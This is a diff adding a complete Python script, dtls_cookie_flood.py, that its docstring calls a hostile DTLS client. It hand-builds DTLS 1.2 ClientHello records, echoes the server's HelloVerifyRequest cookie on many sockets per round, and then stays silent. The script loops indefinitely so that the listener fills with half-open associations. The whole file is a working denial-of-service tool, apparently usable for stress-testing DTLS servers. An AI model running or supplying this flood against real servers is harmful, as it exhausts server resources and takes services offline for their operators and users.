@@ -1,0 +1,83 @@
+#!/usr/bin/env python3
+"""A hostile DTLS client: from SOURCE, in rounds, opens PORTS sockets (one source port each),
+one after the other sends a DTLS 1.2 ClientHello on each and answers the HelloVerifyRequest
+(if one comes within 10 ms) with the ClientHello that echoes its cookie, so the listener
+creates a half-open association; then it goes silent.
+It loops until killed, and prints one line per round ("round N: M cookies echoed").
+
+usage: dtls_cookie_flood.py SOURCE HOST PORT PORTS
+"""
+import os
+import select
+import socket
+import struct
+import sys
+import time
+
+source, host, port, ports = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+
+SUITES = [0xCCAC, 0x00A8, 0xC02B, 0xC02F]
+EXTENSIONS = (
+    struct.pack(">HHH", 10, 6, 4) + struct.pack(">HH", 0x001D, 0x0017)  # supported_groups
+    + struct.pack(">HHB", 11, 2, 1) + b"\x00"  # ec_point_formats: uncompressed
+    + struct.pack(">HH", 23, 0)  # extended_master_secret
+    + struct.pack(">HHH", 13, 8, 6) + struct.pack(">HHH", 0x0403, 0x0804, 0x0401)
+)
+
+
+def client_hello(random, cookie, message_seq):
+    body = (
+        b"\xfe\xfd" + random + b"\x00"
+        + bytes([len(cookie)]) + cookie
+        + struct.pack(">H", 2 * len(SUITES)) + b"".join(struct.pack(">H", s) for s in SUITES)
+        + b"\x01\x00"
+        + struct.pack(">H", len(EXTENSIONS)) + EXTENSIONS
+    )
+    n = len(body)
+    handshake = (
+        b"\x01" + n.to_bytes(3, "big") + struct.pack(">H", message_seq)
+        + (0).to_bytes(3, "big") + n.to_bytes(3, "big") + body
+    )
+    record = b"\x16\xfe\xfd" + struct.pack(">H", 0) + message_seq.to_bytes(6, "big")
+    return record + struct.pack(">H", len(handshake)) + handshake
+
+
+def cookie_of(datagram):
+    # record header 13 + handshake header 12, then server_version 2, cookie length 1.
+    if len(datagram) < 28 or datagram[0] != 22 or datagram[13] != 3:
+        return None
+    n = datagram[27]
+    return datagram[28:28 + n] if len(datagram) >= 28 + n else None
+
+
+round_no = 0
+while True:
+    round_no += 1
+    socks = []
+    echoed = 0
+    # One exchange after the other, as fast as the listener answers.
+    for _ in range(ports):
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        s.bind((source, 0))
+        socks.append(s)
+        r = os.urandom(32)
+        try:
+            s.sendto(client_hello(r, b"", 0), (host, port))
+        except OSError:
+            continue
+        ready, _, _ = select.select([s], [], [], 0.01)
+        if not ready:
+            continue
+        try:
+            cookie = cookie_of(s.recv(4096))
+        except OSError:
+            continue
+        if cookie is None:
+            continue
+        s.sendto(client_hello(r, cookie, 1), (host, port))
+        echoed += 1
+    print(f"round {round_no}: {echoed} cookies echoed", flush=True)
+    # Silent from here: the half-open associations wait for a client that never answers.
+    time.sleep(0.1)
+    for s in socks:
+        s.close()
